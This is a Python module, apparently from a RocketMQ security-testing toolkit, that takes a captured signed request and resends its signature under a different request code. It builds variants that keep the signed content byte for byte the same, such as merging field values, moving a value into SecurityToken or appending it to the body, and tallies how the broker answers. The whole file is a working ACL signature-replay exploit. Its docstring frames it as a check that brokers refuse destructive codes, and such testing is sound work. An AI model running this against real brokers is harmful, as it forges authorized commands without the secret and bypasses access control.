"""The attacker that has watched one signed request go by and, without the secret, sends its
signature again as another request (``replayed_as``, ``replay_signatures``).

Why a module of its own: it attacks the ACL's signature, not a port's limits; the ways to
rebuild a request whose signed content is the same byte for byte follow from how RocketMQ
signs (the fields' values in key order, then the body), which is the one thing this module
knows.
"""

from __future__ import annotations

import attrs
import trio

from ...remoting import RemotingError, open_remoting_client
from ...wire.remoting import RemotingCommand
from ._common import AttackOutcome, Tally, code_name

__all__ = ["replay_signatures", "replayed_as"]


def _java_key_order(key: str) -> bytes:
    return key.encode("utf-16-be", "surrogatepass")  # the order RocketMQ signs values in


def replayed_as(captured: RemotingCommand, code: int) -> dict[str, RemotingCommand]:
    """What an observer can make of a captured signed request without its secret: the same
    signature sent as request ``code``, its signed content (the fields' values in key order,
    then the body) kept byte for byte. Each way, by name: ``as is`` (only the code changed);
    ``<key> into <next>`` (a field dropped, its value prefixed to the next one's);
    ``<key> as SecurityToken``; ``<key> into the body`` (the last field's value moved in
    front of the body)."""
    fields = dict(captured.ext_fields)
    account = {"AccessKey", "Signature"}
    keys = sorted((k for k in fields if k != "Signature"), key=_java_key_order)
    ways = {"as is": attrs.evolve(captured, code=code)}
    for key, after in zip(keys, keys[1:], strict=False):
        if key in account:
            continue
        merged = {k: v for k, v in fields.items() if k != key}
        merged[after] = fields[key] + fields[after]
        ways[f"{key} into {after}"] = attrs.evolve(captured, code=code, ext_fields=merged)
        token = {k: v for k, v in fields.items() if k != key}
        token["SecurityToken"] = fields[key]
        ways[f"{key} as SecurityToken"] = attrs.evolve(captured, code=code, ext_fields=token)
    if keys and keys[-1] not in account:
        last = keys[-1]
        tail = {k: v for k, v in fields.items() if k != last}
        ways[f"{last} into the body"] = attrs.evolve(
            captured, code=code, ext_fields=tail,
            body=fields[last].encode() + (captured.body or b""))
    return ways


async def replay_signatures(address: str, captured: RemotingCommand, code: int, *,
                            seconds: float = 10.0) -> AttackOutcome:
    """Send a captured signed request again as request ``code`` in every way of
    ``replayed_as``, over one connection. ``answers`` counts ``<way>:<response code>``; the
    caller judges (against an ACL broker, a destructive ``code`` must be refused)."""
    tally = Tally("signature replayed", address)
    with trio.move_on_after(seconds):
        async with open_remoting_client(address) as client:
            tally.connections += 1
            for way, request in replayed_as(captured, code).items():
                try:
                    reply = await client.invoke(request, 5)
                except RemotingError:
                    tally.answers[f"{way}:no answer"] += 1
                    continue
                tally.frames_sent += 1
                tally.answers[f"{way}:{code_name(reply.code)}"] += 1
    return tally.outcome()
